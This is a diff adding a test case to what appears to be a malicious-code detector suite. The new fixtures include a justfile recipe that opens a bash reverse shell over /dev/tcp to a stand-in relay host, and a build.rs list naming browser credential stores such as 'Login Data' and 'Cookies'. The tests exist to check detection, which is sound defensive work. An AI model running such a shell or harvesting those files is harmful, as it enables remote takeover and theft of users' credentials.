@@ -101,4 +101,23 @@ describe('attacker forms, eleventh set', () => {
       .replace('job.env', 'dist.tgz')
     expect(hitsOf('exfiltration', { 'resources/sync.gitlab-ci.yml': artifact })).toEqual([])
   })
+
+  it('reads a template\'s port in /dev/tcp, and points at the line of a statement that names the second store', () => {
+    const just = [
+      'relay := "pair.devrelay-sync.io"',
+      '',
+      'pair:',
+      '    @nohup bash -c \'bash -i >& /dev/tcp/{{relay}}/{{port}} 0>&1\' &',
+    ].join('\n')
+    expect(hitsOf('reverse_shell', { 'resources/justfile': just }))
+      .toEqual(['error reverse_shell resources/justfile:4:21'])
+    const rs = [
+      'let wanted = [',
+      '    "Login Data",',
+      '    "Cookies",',
+      '    "Local State",',
+      '];',
+    ].join('\n')
+    expect(hitsOf('credential_harvesting', { 'build.rs': rs })).toEqual(['error credential_harvesting build.rs:4:5'])
+  })
 })
